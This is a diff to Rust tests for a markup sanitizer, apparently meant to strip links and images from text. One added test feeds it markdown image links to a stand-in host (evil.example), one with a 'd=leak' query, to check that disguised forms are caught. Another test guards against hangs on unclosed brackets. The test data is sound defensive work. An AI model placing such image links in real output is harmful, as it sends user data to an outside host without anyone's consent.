@@ -17,6 +17,7 @@ fn markup_goes_and_its_words_stay() {
         ("zero\u{200b}width", "zerowidth"),
         ("<<b>script>x", "x"),
         ("wow!", "wow!"),
+        ("<https://corp.example>", ""),
     ] {
         assert_eq!(strip(text), plain, "{text}");
         assert_eq!(is_in(text), text != plain, "{text}");
@@ -28,5 +29,33 @@ proptest! {
     fn what_is_left_has_no_markup(text in "[<>!\\[\\]()/a-b \u{200b}:]{0,60}") {
         let kept = strip(&text);
         prop_assert!(!is_in(&kept), "{kept:?}");
+    }
+}
+
+#[test]
+fn what_a_reader_could_take_for_a_link_is_one() {
+    for text in [
+        "![a[b]](https://evil.example/x.png?d=leak)",
+        "![[a]](https://evil.example/x.png)",
+        "![a\\]b](https://evil.example/x.png)",
+        "![`]`](https://evil.example/x.png)",
+        "[fo\\]o]: https://evil.example/x.png\n![fo\\]o]",
+    ] {
+        assert!(is_in(text), "{text}");
+        assert!(!is_in(&strip(text)), "{text} leaves {}", strip(text));
+    }
+}
+
+/// Brackets that are never closed take no longer than others; a test that hangs fails.
+#[test]
+fn unclosed_brackets_take_no_time() {
+    for text in [
+        "[".repeat(1_000_000),
+        "[](".repeat(333_000),
+        "![".repeat(500_000),
+        "<".repeat(1_000_000),
+        "[".repeat(1_000_000) + "]",
+    ] {
+        assert!(strip(&text).len() <= text.len());
     }
 }
